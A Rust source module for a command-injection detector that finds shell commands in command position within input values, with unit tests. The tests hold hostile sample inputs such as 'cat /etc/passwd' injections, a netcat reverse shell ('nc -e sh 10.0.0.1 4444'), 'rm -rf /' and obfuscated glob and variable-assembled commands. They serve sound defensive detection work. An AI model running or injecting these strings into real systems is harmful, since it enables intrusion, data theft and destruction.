//! Steps that find a command where a shell would run one: at the start of
//! the value or after a separator (`;`, `|`, `&`, a line break, a
//! backquote). Each step reads one command position; the first finding
//! decides. A command word counts only in command position: "the cat sat"
//! is text, "; cat /etc/passwd" is a command.

use super::evasion::is_glob_path;
use super::{
    command_word, has_option, is_command, is_separator, is_sqlite_dot_command, is_wordlike,
    is_wrapper, runs_assembled_command, shell_args, starts_with_clean_option, RECON,
};
use crate::detectors::Hit;

/// Directories whose programs a path names outright.
const BINARY_DIRS: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "$shell",
    "${shell}",
];

/// One command position in the unquoted value.
#[derive(Clone, Copy)]
struct Position<'s> {
    /// The whole unquoted value.
    s: &'s str,
    /// Where the position starts.
    start: usize,
    /// Whether a separator precedes it (else it is the value's start).
    after_separator: bool,
    /// The word in command position and what follows it.
    word: &'s str,
    args: &'s str,
}

impl<'s> Position<'s> {
    fn segment(&self) -> &'s str {
        self.s[self.start..].trim_start()
    }
}

/// The commands run at the value's command positions, or a command
/// assembled from variables across them.
pub(super) fn command_in_position(s: &str) -> Option<Hit> {
    let mut starts: Vec<(usize, bool)> = vec![(0, false)];
    for (i, c) in s.char_indices() {
        if is_separator(c) {
            starts.push((i + c.len_utf8(), true));
        }
    }
    if runs_assembled_command(s, &starts) {
        return Some(Hit::new("cmdi.assembled_command", 5.0, 0.85, 1));
    }
    starts.into_iter().find_map(|(start, after_separator)| {
        let (word, args) = command_word(&s[start..]);
        let p = Position {
            s,
            start,
            after_separator,
            word,
            args,
        };
        glob_path(&p)
            .or_else(|| sqlite_dot_command(&p))
            .or_else(|| program_in_shell_position(&p))
            .or_else(|| named_command(&p))
    })
}

/// The command positions of a value that reads as prose where a command
/// is still certainly run: a program under a binary directory, or a known
/// command after a separator that is not also a word, or that is given
/// shell arguments (`; cat /etc/passwd`, `| nc -e sh`). A sentence names
/// commands at its start or after a word ("run ls -la in the folder").
pub(super) fn command_in_prose(s: &str) -> bool {
    s.char_indices()
        .filter(|(_, c)| is_separator(*c))
        .map(|(i, c)| i + c.len_utf8())
        .chain(std::iter::once(0))
        .any(|start| {
            let segment = s[start..].trim_start();
            if BINARY_DIRS.iter().any(|d| segment.starts_with(d)) {
                return true;
            }
            let (word, args) = command_word(&s[start..]);
            let tool = word.split_once('-').map_or(word, |(tool, _)| tool);
            let named = is_command(word) || is_command(tool) && !is_wordlike(tool);
            let shell = if start > 0 {
                !is_wordlike(word) || shell_args(args)
            } else {
                // At the start, only a command line: `ifconfig;`, `uname -a`.
                !is_wordlike(word) && !args.trim().is_empty() && shell_args(args)
            };
            named && shell
        })
}

/// `/???/c?t /etc/passwd`: a glob that names one program.
fn glob_path(p: &Position<'_>) -> Option<Hit> {
    is_glob_path(p.segment().split([' ', '\t']).next().unwrap_or(""))
        .then(|| Hit::new("cmdi.glob_path", 5.0, 0.85, 1))
}

/// `; .shell id`, `| .system ls`: the `sqlite3` shell's way out.
fn sqlite_dot_command(p: &Position<'_>) -> Option<Hit> {
    (p.after_separator && is_sqlite_dot_command(p.segment()))
        .then(|| Hit::new("cmdi.sqlite_dot_command", 5.0, 0.8, 1))
}

/// `/bin/ca?`, `;x`, `| foo -v`: a program named by its binary
/// directory, the only thing after a lone leading separator, or given an
/// option after a separator; whatever its name, it is run.
fn program_in_shell_position(p: &Position<'_>) -> Option<Hit> {
    let segment = p.segment();
    let binary_path = BINARY_DIRS.iter().any(|d| segment.starts_with(d))
        || (p.start == 0 && (segment.starts_with("bin/") || segment.starts_with("sbin/")));
    let leading_separator = p.after_separator && p.s[..p.start].trim().len() == 1;
    let plain_name = p
        .word
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
    let optioned =
        p.after_separator && plain_name && (has_option(p.args) || opens_with_flag(p.args));
    let program = p.word.rsplit('/').next().unwrap_or(p.word);
    // Under a binary directory a glob still names one program: `/bin/ca?`.
    let name_byte = |b: u8| {
        b.is_ascii_alphanumeric() || b"-_.".contains(&b) || binary_path && b"?*".contains(&b)
    };
    ((binary_path || leading_separator || optioned)
        && !program.is_empty()
        && program.bytes().all(name_byte))
    .then(|| Hit::new("cmdi.command", 5.0, 0.8, 1))
}

/// `-9`, `-la`, `--x`: arguments that open with a flag; a lone `--` before
/// a space is a dash in a sentence ("5th & Main -- rear door").
fn opens_with_flag(args: &str) -> bool {
    let args = args.trim_start();
    let name = args.trim_start_matches('-');
    args.starts_with('-') && !name.is_empty() && !name.starts_with(char::is_whitespace)
}

/// `; ansible-config`: a tool's companion binary, where a command must
/// stand (at the start of a value, `ssh-rsa` is a key type).
fn companion_tool<'s>(p: &Position<'s>) -> Option<&'s str> {
    let (tool, companion) = p.word.split_once('-')?;
    let separated = companion
        .bytes()
        .next()
        .is_some_and(|b| b.is_ascii_alphabetic())
        && !is_command(p.word)
        && is_command(tool)
        && (p.after_separator || has_option(p.args));
    let line = !is_command(p.word)
        && is_command(tool)
        && !is_wordlike(tool)
        && p.args.trim_end_matches([' ', '\t']).ends_with('\n');
    (separated || line).then_some(tool)
}

/// A known command in command position, read with its arguments: after a
/// separator a command that is not also a word (or one given shell
/// arguments); at the start only a command line (a path, options, a line
/// break), so a sentence that names a command stays text. Versioned names
/// (`python3.10`) and wrappers (`nohup id`) are read through.
fn named_command(p: &Position<'_>) -> Option<Hit> {
    let companion = companion_tool(p);
    let word = companion.unwrap_or(p.word);
    // `python3.10`, `c99`: a version suffix makes a name a command, not a word.
    let versioned = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let has_version = versioned.len() < word.len() && !versioned.is_empty();
    let word = if is_command(word) || !has_version {
        word
    } else {
        versioned
    };
    if has_version && is_command(word) && !p.args.trim().is_empty() {
        return Some(Hit::new("cmdi.command", 5.0, 0.75, 1));
    }
    // `time sh -c id`, `nohup ifconfig`: a wrapper puts the next word in command position.
    if is_wrapper(word) {
        let (next, _) = command_word(p.args);
        if is_command(next) && !is_wordlike(next) {
            return Some(Hit::new("cmdi.command", 5.0, 0.8, 1));
        }
    }
    if word.is_empty() || !is_command(word) {
        return None;
    }
    let convincing = if p.after_separator {
        !is_wordlike(word) || shell_args(p.args)
    } else {
        command_line_at_start(p, word, companion.is_some())
    };
    convincing.then(|| {
        Hit::new(
            "cmdi.command",
            5.0,
            if p.after_separator { 0.85 } else { 0.7 },
            1,
        )
    })
}

/// Whether a command named at the value's start is a command line rather
/// than a sentence that mentions it.
fn command_line_at_start(p: &Position<'_>, word: &str, companion: bool) -> bool {
    let args = p.args;
    let wordlike = is_wordlike(word);
    let rest = &p.s[p.start..];
    let path_invoked = rest.trim_start().starts_with('/') && rest.contains("bin/");
    // A bare word is a command only when nothing else is named so.
    let bare = args.trim().is_empty();
    // A command followed by a line break is a command line.
    let line_ends = args.trim_end_matches([' ', '\t']).ends_with('\n');
    path_invoked
        || (!wordlike && shell_args(args) && (!bare || RECON.contains(&word)))
        || (!wordlike && line_ends)
        || (wordlike && args.trim_start().starts_with(['/', '-']) && args.contains('/'))
        // `chef-client -t x`, `env --version`: a tool given an option first
        // and little else, a command line rather than a sentence that
        // mentions one.
        || (companion || args.trim_start().starts_with("--"))
            && starts_with_clean_option(args)
            && args.split_whitespace().count() <= 3
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(s: &str) -> Option<&'static str> {
        command_in_position(s).map(|h| h.rule)
    }

    #[test]
    fn each_position_step_reads_its_own_shape() {
        assert_eq!(rule("/???/c?t /etc/passwd"), Some("cmdi.glob_path"));
        assert_eq!(rule("x; .shell id"), Some("cmdi.sqlite_dot_command"));
        assert_eq!(rule("/bin/ca? x"), Some("cmdi.command"));
        assert_eq!(rule("x | foo -v"), Some("cmdi.command"));
        assert_eq!(rule("x; ansible-config list"), Some("cmdi.command"));
        assert_eq!(rule("python3.10 -c x"), Some("cmdi.command"));
        assert_eq!(rule("x; nohup ifconfig"), Some("cmdi.command"));
        assert_eq!(rule("x; whoami"), Some("cmdi.command"));
        assert_eq!(rule("whoami"), Some("cmdi.command"));
        assert_eq!(
            rule("a=c;b=at;$a$b /etc/passwd"),
            Some("cmdi.assembled_command")
        );
    }

    #[test]
    fn in_prose_only_commands_that_run_hold() {
        assert!(command_in_prose("thanks; cat /etc/passwd"));
        assert!(command_in_prose("nice | nc -e sh 10.0.0.1 4444"));
        assert!(command_in_prose("thanks;/bin/sh -c id"));
        assert!(command_in_prose("time; ansible-vault decrypt secret"));
        assert!(command_in_prose("ifconfig;. rm -rf /; something else"));
        assert!(!command_in_prose("the default shell is /bin/sh here"));
        assert!(!command_in_prose(
            "run ls -la in the folder; then cd into it"
        ));
        assert!(!command_in_prose(
            "kill the process; if that fails, try kill -9"
        ));
    }

    #[test]
    fn commands_named_in_sentences_are_not_run() {
        for text in [
            "the cat sat on the mat",
            "ssh-rsa aaaab3nzac1yc2e",
            "time to go home",
            "find the best deals",
            "5th & main -- rear door",
        ] {
            assert_eq!(rule(text), None, "{text}");
        }
    }
}
